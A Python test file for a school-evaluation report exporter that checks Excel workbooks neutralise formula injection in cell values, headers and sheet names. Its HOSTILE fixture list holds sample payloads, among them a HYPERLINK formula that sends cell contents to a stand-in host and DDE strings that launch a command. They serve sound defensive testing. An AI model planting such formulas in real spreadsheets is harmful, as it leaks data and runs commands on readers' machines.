"""Excel exports: formula injection neutralised in cells, headers and sheet names; numbers stay
numbers (security-test-plan T36)."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from checklist.model import Rubric
from checklist.scoring import score
from reports.excel import region_workbook, score_rows, scores_workbook
from reports.model import ReportMeta, SchoolResult
from reports.region import build_region_report, school_result
from reports.workbooks import neutralise
from tests.reports.conftest import ANSWERS, PROFILE

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def results(rubric: Rubric) -> list[SchoolResult]:
    card = score(rubric, ANSWERS, PROFILE)
    rows = [school_result("测试市实验学校", "2100000001", "站前区", card, stage="自评")]
    for i, text in enumerate(HOSTILE):
        rows.append(school_result(text, f"=21{i}", text, card))
    return rows


def load(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def cells(book: Workbook) -> list[object]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_neutralise_prefixes_formula_starts_only() -> None:
    assert [neutralise(t)[:2] for t in HOSTILE] == ["'=", "'+", "'-", "'@", "'\t", "'\r"]
    assert neutralise("测试学校") == "测试学校"
    assert neutralise("a=b") == "a=b"
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None


def test_scores_workbook_has_no_formula_and_keeps_numbers(rubric: Rubric, results: list[SchoolResult]) -> None:
    book = load(scores_workbook(rubric, score_rows(results), [("导出范围", "=全部学校")]))
    assert all(c.data_type != "f" for c in cells(book))  # type: ignore[attr-defined]
    assert book.sheetnames == ["学校得分", "要点得分", "评估要点", "说明"]
    sheet = book["学校得分"]
    header = [c.value for c in sheet[1]]
    assert header[:6] == ["学校代码", "学校名称", "所属区县", "学段", "状态", "自评得分"]
    assert "A1.1 自评" in header and "A1.1 核定" in header
    first = [c for c in sheet[2]]
    assert first[1].value == "测试市实验学校"
    assert first[5].data_type == "n" and first[5].value == results[0].total
    assert first[header.index("C1.2 自评")].value == "不适用"
    assert first[header.index("C1.2 核定")].value in ("", None)  # not verified yet: empty, not 未填报
    names = [row[1].value for row in sheet.iter_rows(min_row=3)]
    # Kept exactly, as text (openpyxl with lxml escapes a CR as &#13;, so it reads back as CR).
    assert names == ["'" + t for t in HOSTILE]
    codes = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert codes[0] == "'=210"
    about = {row[0].value: row[1].value for row in book["说明"].iter_rows(min_row=2)}
    assert about["导出范围"] == "'=全部学校" and about["学校数"] == len(results)


def test_region_workbook_neutralises_cells_and_headers(rubric: Rubric, results: list[SchoolResult]) -> None:
    meta = ReportMeta(cycle="2024年度", bureau="=测试市教育局", date="2024年12月30日")
    report = build_region_report(rubric, results, meta, region="@测试市")
    book = load(region_workbook(report))
    assert book.sheetnames == [
        "总体情况",
        "等级分布",
        "学校排名",
        "一级指标",
        "要点达标率",
        "突出问题",
        "区县情况",
    ]
    assert all(c.data_type != "f" for c in cells(book))  # type: ignore[attr-defined]
    overview = {row[0].value: row[1].value for row in book["总体情况"].iter_rows(min_row=2)}
    assert overview["区域"] == "'@测试市"
    assert overview["参评学校数"] == len(results)
    # District names become column headers of the 一级指标 sheet.
    header = [c.value for c in book["一级指标"][1]]
    assert "'" + HOSTILE[0] in header
    ranking = book["学校排名"]
    assert ranking["E2"].data_type == "n"  # 总分
    assert all(isinstance(row[0].value, int) for row in ranking.iter_rows(min_row=2))
    rates = book["要点达标率"]
    rate_column = [c.value for c in rates[1]].index("达标率（%）")
    assert any(row[rate_column].data_type == "n" for row in rates.iter_rows(min_row=2))
